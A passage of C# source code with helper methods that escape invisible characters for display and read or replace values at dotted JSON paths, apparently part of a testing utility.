            shown.Append(char.IsControl(ch) || char.IsSurrogate(ch) || ch is '\u200B' or '\u202E' ? $"\\u{(int)ch:x4}" : ch.ToString());
        }
        return $"\"{shown}\"" + (s.Length > 40 ? $" ({s.Length} chars)" : "");
    }

    /// <summary><paramref name="json"/> with the value at <paramref name="path"/> replaced by the string placeholder <see cref="Slot"/>.</summary>
    private static string WithSlot(string json, string path)
    {
        var root = JsonNode.Parse(json)!;
        Set(root, path, JsonValue.Create(Slot));
        return root.ToJsonString(Relaxed);
    }

    private static IEnumerable<object> Segments(string path)
    {
        foreach (var part in path.Split('.'))
        {
            var bracket = part.IndexOf('[');
            if (bracket < 0)
            {
                yield return part;
                continue;
            }
            yield return part[..bracket];
            foreach (Match m in Index().Matches(part[bracket..]))
            {
                yield return int.Parse(m.Groups[1].Value, CultureInfo.InvariantCulture);
            }
        }
    }

    [GeneratedRegex(@"\[(\d+)\]")]
    private static partial Regex Index();

    private static JsonNode? Navigate(JsonNode root, string path)
    {
        JsonNode? node = root;
        foreach (var segment in Segments(path))
        {
            node = segment is int i ? node!.AsArray()[i] : node!.AsObject()[(string)segment];
        }
        return node;
    }

    private static void Set(JsonNode root, string path, JsonNode? value)
    {
        var segments = Segments(path).ToList();
        JsonNode node = root;
        foreach (var segment in segments.SkipLast(1))
        {
            node = segment is int i ? node.AsArray()[i]! : node.AsObject()[(string)segment]!;
        }
        if (segments[^1] is int index)
        {
            node.AsArray()[index] = value;
        }
        else
        {
            node.AsObject()[(string)segments[^1]] = value;
        }
    }
}
